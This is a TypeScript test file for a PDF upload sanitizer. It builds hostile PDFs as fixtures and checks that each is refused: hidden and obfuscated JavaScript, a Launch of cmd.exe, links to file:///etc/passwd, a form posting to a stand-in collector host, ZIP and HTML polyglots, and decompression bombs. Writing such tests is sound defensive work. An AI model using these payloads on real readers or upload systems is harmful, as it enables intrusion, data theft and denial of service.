/**
 * The report check on real files (docs/decisions/0021-reports-parsed-not-sniffed.md): a plain report passes;
 * JavaScript, Launch actions, attached files, decompression bombs, polyglots, encrypted, tiny, cut-off and
 * malformed files are refused, each with its own text. No database: the route's answers are in
 * office-reports.test.ts.
 */
import { randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { checkReportPdf } from '#server/orders/pdf-check';
import { MAX_CHECK_MS, MAX_OBJECTS } from '#server/orders/pdf-objects';
import { tinyPdf } from './office-helpers';
import {
  type Bytes,
  CATALOG_AND_PAGE,
  attachedFile,
  fileAttachmentAnnotation,
  flateBomb,
  handMadePdf,
  javascriptInNames,
  javascriptOnOpen,
  launchOnPageOpen,
  lzwLiterals,
  reportPdf,
  refusalOf,
  reportPdfOfSize,
  zipOf,
} from './report-pdf-files';

function concat(...parts: Array<Uint8Array | string>): Bytes {
  return new Uint8Array(
    Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))),
  );
}

describe('plain reports pass', () => {
  it('with and without object streams, with an image, hand-made ones, and one of an exact size', async () => {
    expect(await refusalOf(await reportPdf())).toBe('ok');
    expect(await refusalOf(await reportPdf({ objectStreams: false }))).toBe('ok');
    expect(await refusalOf(await reportPdf({ pages: 30, imageBytes: 600_000 }))).toBe('ok');
    expect(await refusalOf(tinyPdf())).toBe('ok');
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE))).toBe('ok');
    const exact = await reportPdfOfSize(50_000);
    expect(exact.length).toBe(50_000);
    expect(await refusalOf(exact)).toBe('ok');
  });

  it('a web link is not active content', async () => {
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com) >> >>';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, link]))).toBe('ok');
  });
});

describe('active content is refused', () => {
  it('JavaScript: in the Names tree (packed in an object stream, or not) and as the open action', async () => {
    expect(await refusalOf(await javascriptInNames())).toBe('javascript');
    expect(await refusalOf(await javascriptInNames(false))).toBe('javascript');
    expect(await refusalOf(await javascriptOnOpen())).toBe('javascript');
  });

  it('JavaScript behind escaped names, an indirect /S, a comment in the header, or in no cross-reference table', async () => {
    const escaped = '<< /S /Java#53cript /#4a#53 (app.alert(1)) >>';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, escaped]))).toBe('javascript');
    const indirect = ['<< /S 5 0 R /Next 6 0 R >>', '/JavaScript'];
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, ...indirect]))).toBe('javascript');
    const orphan = '9 0 %hidden\n obj\n<< /Type /Action /S /JavaScript >>\nendobj\n';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: orphan }))).toBe('javascript');
    const midLine = '(%) 9 0 obj << /AA << /O << /JS (x) >> >> >> endobj\n';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: midLine }))).toBe('javascript');
    const xfa = '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>';
    expect(
      await refusalOf(handMadePdf([xfa, ...CATALOG_AND_PAGE.slice(1), '<< /Length 0 >>\nstream\n\nendstream'])),
    ).toBe('javascript');
  });

  it('JavaScript in a hand-packed object stream, and in one packed twice', async () => {
    const inside = '<< /S /JavaScript /JS (app.alert(1)) >>';
    const header = '4 0 ';
    const packed = deflateSync(deflateSync(Buffer.from(header + inside, 'latin1')));
    const objectStream = `<< /Type /ObjStm /N 1 /First ${header.length} /Filter [/FlateDecode /Fl] /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`;
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, objectStream]))).toBe('javascript');
  });

  it('Launch actions', async () => {
    expect(await refusalOf(await launchOnPageOpen())).toBe('launch');
    const open = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>';
    expect(await refusalOf(handMadePdf([open, ...CATALOG_AND_PAGE.slice(1)]))).toBe('launch');
  });

  it('attached and embedded files', async () => {
    expect(await refusalOf(await attachedFile())).toBe('attachment');
    expect(await refusalOf(await fileAttachmentAnnotation())).toBe('attachment');
    const goToE = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >> >>';
    expect(await refusalOf(handMadePdf([goToE, ...CATALOG_AND_PAGE.slice(1)]))).toBe('attachment');
  });
});

describe('links and actions that reach outside the document are refused', () => {
  const linkTo = (uri: string) =>
    handMadePdf([
      ...CATALOG_AND_PAGE,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ${uri} >> >>`,
    ]);

  it('a link to javascript:, file:, data:, smb: or a network share; web, e-mail and phone links pass', async () => {
    for (const uri of [
      '(javascript:alert\\(1\\))',
      '(file:///etc/passwd)',
      '(data:text/html,hi)',
      '(smb://host/share)',
    ]) {
      expect([uri, await refusalOf(linkTo(uri))]).toEqual([uri, 'unsafeLink']);
    }
    expect(await refusalOf(linkTo('(\\\\\\\\fileserver\\\\share\\\\x.exe)'))).toBe('unsafeLink');
    // Hex-encoded "javascript:x" is the same link.
    expect(await refusalOf(linkTo(`<${Buffer.from('javascript:x').toString('hex')}>`))).toBe('unsafeLink');
    for (const uri of [
      '(https://example.com/a)',
      '(HTTP://example.com)',
      '(mailto:office@example.com)',
      '(tel:+442079460000)',
    ]) {
      expect([uri, await refusalOf(linkTo(uri))]).toEqual([uri, 'ok']);
    }
  });

  it('a link opened by itself when the document or a page opens; a jump inside the document on open passes', async () => {
    const [catalog, ...rest] = CATALOG_AND_PAGE;
    const withCatalog = (extra: string) => handMadePdf([catalog!.replace('>>', `${extra} >>`), ...rest]);
    expect(await refusalOf(withCatalog('/OpenAction << /S /URI /URI (https://example.com) >>'))).toBe('autoAction');
    expect(
      await refusalOf(
        withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>'),
      ),
    ).toBe('autoAction');
    expect(await refusalOf(withCatalog('/OpenAction [3 0 R /Fit]'))).toBe('ok');
    expect(await refusalOf(withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))).toBe('ok');
    const [, pages, page] = CATALOG_AND_PAGE;
    const pageOpens = page!.replace(/>>\s*$/, '/AA << /O << /S /URI /URI (https://example.com) >> >> >>');
    expect(await refusalOf(handMadePdf([catalog!, pages!, pageOpens]))).toBe('autoAction');
  });

  it('a form that submits to a website, an import of data from a file, a link to another file', async () => {
    const button = (action: string) =>
      handMadePdf([...CATALOG_AND_PAGE, `<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A ${action} >>`]);
    expect(await refusalOf(button('<< /S /SubmitForm /F (https://evil.example/collect) >>'))).toBe('form');
    expect(await refusalOf(button('<< /S /ImportData /F (data.fdf) >>'))).toBe('import');
    expect(await refusalOf(button('<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\other.pdf) /D [0 /Fit] >>'))).toBe(
      'unsafeLink',
    );
  });
});

describe('decompression bombs are refused, in bounded time', () => {
  it('200 MB of zeros in a page, Flate-packed to ~200 kB', async () => {
    const bomb = await flateBomb(200);
    expect(bomb.length).toBeLessThan(400_000);
    const started = process.cpuUsage();
    expect(await refusalOf(bomb)).toBe('bomb');
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(2000);
  });

  it('a small stream that unpacks past the ratio, and one packed twice (a few kB for 200 MB)', async () => {
    expect(await refusalOf(await flateBomb(3))).toBe('bomb');
    const twice = await flateBomb(200, 2);
    expect(twice.length).toBeLessThan(50_000);
    expect(await refusalOf(twice)).toBe('bomb');
  });

  it('a bomb in an object stream, before anything in it is parsed', async () => {
    const zeros = deflateSync(Buffer.alloc(100 * 1024 * 1024), { level: 9 });
    const objectStream = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${zeros.length} >>\nstream\n${zeros.toString('latin1')}\nendstream`;
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, objectStream]))).toBe('bomb');
  });
});

describe('every filter a reader undoes is undone, each within its limit', () => {
  const JS_INSIDE = '<< /S /JavaScript /JS (app.alert(1)) >>';
  /** An object stream holding the JavaScript action past its 300th byte, with its packed bytes and filter. */
  const objectStream = (pack: (plain: Buffer) => Uint8Array, filter: string) => {
    const header = '4 0'.padEnd(300, ' ');
    const packed = Buffer.from(pack(Buffer.from(header + JS_INSIDE, 'latin1')));
    return `<< /Type /ObjStm /N 1 /First ${header.length} ${filter} /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`;
  };
  const withStream = (stream: string) => handMadePdf([...CATALOG_AND_PAGE, stream]);

  it('JavaScript packed with LZW (early change or not), ASCIIHex or an image codec', async () => {
    const lzw = (earlyChange: 0 | 1) => (plain: Buffer) => lzwLiterals(plain, earlyChange);
    const early = objectStream(lzw(1), '/Filter /LZWDecode');
    expect(await refusalOf(withStream(early))).toBe('javascript');
    const late = objectStream(lzw(0), '/Filter /LZW /DecodeParms << /EarlyChange 0 >>');
    expect(await refusalOf(withStream(late))).toBe('javascript');
    const hex = objectStream((plain) => Buffer.from(`${plain.toString('hex')}>`), '/Filter /AHx');
    expect(await refusalOf(withStream(hex))).toBe('javascript');
    // An image codec ends the chain: its pixels are not read, and an object stream behind one is no PDF.
    expect(await refusalOf(withStream(objectStream((plain) => plain, '/Filter /DCTDecode')))).toBe('notPdf');
    const image =
      '<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length 4 >>\nstream\n\xff\xd8\xff\xd9\nendstream';
    expect(await refusalOf(withStream(image))).toBe('ok');
  });

  it('an object stream whose header does not add up is no PDF, whatever it holds', async () => {
    const packed = (dict: string, content: string) =>
      withStream(`<< /Type /ObjStm ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream`);
    const body = `4 0 5 ${JS_INSIDE.length + 1} `;
    const content = `${body}${JS_INSIDE} << >>`;
    expect(await refusalOf(packed(`/N 2 /First ${body.length}`, content))).toBe('javascript');
    const broken = [
      packed(`/First ${body.length}`, content),
      packed('/N 2 /First (6)', content),
      packed(`/N 2 /First ${content.length + 1}`, content),
      packed('/N 2 /First 1.5', content),
      packed('/N 3 /First 12', content),
      packed(`/N 2 /First ${body.length}`, `4 0 5 999 ${JS_INSIDE} << >>`),
    ];
    for (const [index, file] of broken.entries()) expect(await refusalOf(file), String(index)).toBe('notPdf');
  });

  it('RunLength behind Flate may unpack to exactly the limit, not a run more', async () => {
    // Each two-byte run is 128 zeros: 8192 of them are the 1 MB a small stream may unpack to.
    const runs = (count: number) => {
      const packed = deflateSync(Buffer.alloc(2 * count, Buffer.from([0x81, 0x00])));
      return withStream(
        `<< /Filter [/FlateDecode /RunLengthDecode] /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`,
      );
    };
    expect(await refusalOf(runs(8192))).toBe('ok');
    expect(await refusalOf(runs(8193))).toBe('bomb');
  });

  it('Flate data without its zlib header, or too short to hold one, is no PDF', async () => {
    const raw = deflateRawSync(Buffer.from('BT /F1 12 Tf (Hello) Tj ET'));
    for (const data of [Buffer.concat([Buffer.from([0x78, 0x00]), raw]), Buffer.from([0x78])]) {
      const stream = `<< /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
      expect(await refusalOf(withStream(stream))).toBe('notPdf');
    }
    const zlib = Buffer.concat([Buffer.from([0x78, 0x9c]), raw]);
    const good = `<< /Filter /FlateDecode /Length ${zlib.length} >>\nstream\n${zlib.toString('latin1')}\nendstream`;
    expect(await refusalOf(withStream(good))).toBe('ok');
  });
});

describe('what is not a PDF, or not only one, is refused', () => {
  it('a 10-byte file, an empty one, a cut-off one, one without pages, and broken Flate data', async () => {
    expect(await refusalOf(Buffer.from('%PDF-%%EOF', 'latin1'))).toBe('notPdf');
    expect(await refusalOf(new Uint8Array())).toBe('notPdf');
    const report = await reportPdf();
    expect(await refusalOf(report.slice(0, report.length / 2))).toBe('notPdf');
    expect(await refusalOf(concat(report.slice(0, report.length / 2), '\n%%EOF\n'))).toBe('notPdf');
    expect(await refusalOf(handMadePdf(['<< /Type /Catalog >>']))).toBe('notPdf');
    const broken = '<< /Filter /FlateDecode /Length 6 >>\nstream\nx\x9cgarb\nendstream';
    expect(await refusalOf(handMadePdf([...CATALOG_AND_PAGE, broken]))).toBe('notPdf');
  });

  it('bytes before %PDF-: an HTML page or a picture that also holds a PDF', async () => {
    const report = await reportPdf();
    expect(await refusalOf(concat('<html><body>', report))).toBe('notPdf');
    expect(await refusalOf(concat(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), report))).toBe('notPdf');
  });

  it('a PDF that is also a ZIP archive, an HTML page or a tar archive', async () => {
    const report = await reportPdf();
    expect(await refusalOf(concat(report, zipOf('run.bat', 'echo pwned'), '\n%%EOF\n'))).toBe('polyglot');
    const html = concat(report.slice(0, 9), '%<html><script>alert(document.cookie)</script>\n', report.slice(9));
    expect(await refusalOf(html)).toBe('polyglot');
    const tar = concat('%PDF-1.7\n%', ' '.repeat(246), '\nustar\n', handMadePdf(CATALOG_AND_PAGE).slice(9));
    expect(await refusalOf(tar)).toBe('polyglot');
  });

  it('a ZIP whose directory is where its end record points, not right before it; a stray end record passes', async () => {
    const report = await reportPdf();
    const zip = Buffer.from(zipOf('run.bat', 'echo pwned'));
    const directoryAt = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    const endAt = zip.length - 22;
    /** The ZIP after the report, its end record saying `size` and `offset` of its central directory. */
    const appended = (size: number, offset: number) => {
      const copy = Buffer.from(zip);
      copy.writeUInt32LE(size, endAt + 12);
      copy.writeUInt32LE(offset, endAt + 16);
      return concat(report, copy, '\n%%EOF\n');
    };
    expect(await refusalOf(appended(0, report.length + directoryAt))).toBe('polyglot');
    // An end record whose directory is neither before it nor where it points: chance bytes, no archive.
    const stray = concat(report, zip.subarray(endAt), '\n%%EOF\n');
    expect(await refusalOf(stray)).toBe('ok');
    // Nor one pointing past itself: a directory comes before its end record.
    const after = Buffer.from(zip.subarray(endAt));
    after.writeUInt32LE(0, 12);
    after.writeUInt32LE(report.length + after.length, 16);
    expect(await refusalOf(concat(report, after, zip.subarray(directoryAt, endAt), '\n%%EOF\n'))).toBe('ok');
  });

  it('an encrypted file: its objects cannot be looked into', async () => {
    const encrypt = '/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>';
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { trailer: encrypt }))).toBe('encrypted');
  });
});

describe('hostile structure costs bounded work and never throws', () => {
  it('too many objects, or nesting deeper than the stack', async () => {
    const many = Array.from({ length: MAX_OBJECTS + 1 }, (_, index) => `${index + 10} 0 obj 1 endobj\n`).join('');
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: many }))).toBe('tooComplex');
    const deep = `9 0 obj ${'['.repeat(200_000)} endobj\n`;
    expect(await refusalOf(handMadePdf(CATALOG_AND_PAGE, { extra: deep }))).toBe('tooComplex');
  });

  // MAX_CHECK_MS of CPU time: on a busy machine the clock on the wall runs further, so the test allows for it.
  it('work that grows with the square of the size is cut off at the time limit', { timeout: 60_000 }, async () => {
    const started = process.cpuUsage();
    const unclosed = handMadePdf(CATALOG_AND_PAGE, { extra: '1 0 obj ('.repeat(200_000) });
    expect(await refusalOf(unclosed)).toBe('tooComplex');
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(MAX_CHECK_MS * 2);
  });

  it('random bytes after the header never make it throw', async () => {
    for (let round = 0; round < 200; round++) {
      const noise = randomBytes(2000);
      const bytes = concat('%PDF-1.7\n', noise, '1 0 obj << /Type /Catalog >> endobj trailer << /Root 1 0 R >>\n%%EOF');
      await expect(checkReportPdf(bytes)).resolves.toHaveProperty('ok');
    }
  });
});
